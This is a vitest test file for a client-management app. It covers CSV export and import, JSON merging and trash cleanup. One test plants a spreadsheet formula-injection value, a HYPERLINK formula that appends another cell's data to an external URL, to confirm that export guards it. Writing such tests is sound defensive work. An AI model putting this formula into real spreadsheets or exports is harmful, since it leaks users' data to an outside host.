import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makePractice, tempDir } from '../support/practice';

async function importCsv(core: Awaited<ReturnType<typeof makePractice>>['core'], path: string) {
  const preview = await core.call('import.csvPreview', { path });
  return { preview, commit: () => core.call('import.csvCommit', { path, mapping: preview.mapping, fingerprint: preview.fingerprint }) };
}

describe('CSV export', () => {
  it('has no blank row, and guards every cell a spreadsheet would run, a line break in it or not', async () => {
    const { core } = await makePractice();
    await core.call('clients.create', { fullName: 'Ana Lee', code: 'ANA', phone: '+359888123456', background: '=HYPERLINK("https://example.com/?x="&E2,"Open")\nmet at a conference' });
    const folder = join(tempDir(), 'csv');
    await core.call('export.csv', { path: folder });
    const lines = readFileSync(join(folder, 'clients.csv'), 'utf8').split('\r\n');
    expect(lines[1]).not.toBe('');
    expect(lines[1]).toContain(`"'=HYPERLINK(`);
    expect(lines[1]).toContain("'+359888123456");
  });

  it("reads Coachdesk's own clients.csv back as it was: codes from the code column, no guard apostrophes", async () => {
    const { core } = await makePractice();
    await core.call('clients.create', { fullName: 'Ana Lee', code: 'ANA', phone: '+359888123456' });
    await core.call('clients.create', { fullName: 'Bo Chen', code: 'BO', phone: '-' });
    const folder = join(tempDir(), 'csv');
    await core.call('export.csv', { path: folder });

    const { core: other } = await makePractice();
    const { preview, commit } = await importCsv(other, join(folder, 'clients.csv'));
    expect(preview.mapping.code).toBe('code');
    await commit();
    const imported = (await other.call('clients.list', {})).items;
    expect(imported.map((c) => c.code).sort()).toEqual(['ANA', 'BO']);
    const ana = await other.call('clients.get', { id: imported.find((c) => c.code === 'ANA')!.id });
    expect(ana.phone).toBe('+359888123456');
  });
});

describe('CSV import', () => {
  it('finds a code already taken in its preview, whatever its letters (SQLite folds only A-Z)', async () => {
    const { core } = await makePractice();
    await core.call('clients.create', { fullName: 'Борис Георгиев', code: 'БГ-001' });
    const path = join(tempDir(), 'list.csv');
    writeFileSync(path, '\uFEFFИме;Код\r\nМила Иванова;МИ-1\r\nБорислава Гоева;БГ-001\r\n');
    const { preview } = await importCsv(core, path);
    expect(preview.accepted).toBe(1);
    expect(preview.rejected).toEqual([{ row: 3, problems: [expect.objectContaining({ field: 'code', code: 'codeTaken' })] }]);
  });
});

describe('JSON merge', () => {
  it('imports two namesakes who came in on one CSV list (the same moment created) as two clients', async () => {
    const { core } = await makePractice();
    const path = join(tempDir(), 'list.csv');
    writeFileSync(path, 'Name,Email\r\nМария Иванова,maria.i@example.bg\r\nМария Иванова,m.ivanova@firma.bg\r\n');
    await (await importCsv(core, path)).commit();
    const file = join(tempDir(), 'practice.json');
    await core.call('export.json', { path: file });

    const { core: other } = await makePractice();
    await other.call('clients.create', { fullName: 'Someone new' });
    const report = await other.call('import.json', { path: file });
    expect(report).toMatchObject({ counts: { clients: 2 }, skippedClients: [] });
    // The same file again: both are here now, and neither comes twice.
    expect(await other.call('import.json', { path: file })).toMatchObject({ counts: { clients: 0 }, skippedClients: [{}, {}] });
    expect((await other.call('clients.list', {})).total).toBe(3);
  });
});

describe('emptying the trash', () => {
  it('leaves nothing of the deleted clients in the log beside the database', async () => {
    const dataDir = tempDir();
    const { core } = await makePractice({ dataDir });
    const client = await core.call('clients.create', { fullName: 'Lina Quokka' });
    await core.call('clients.trash', { id: client.id });
    await core.call('clients.emptyTrash', {});
    expect(statSync(join(dataDir, 'coachdesk.db-wal')).size).toBe(0);
  });
});
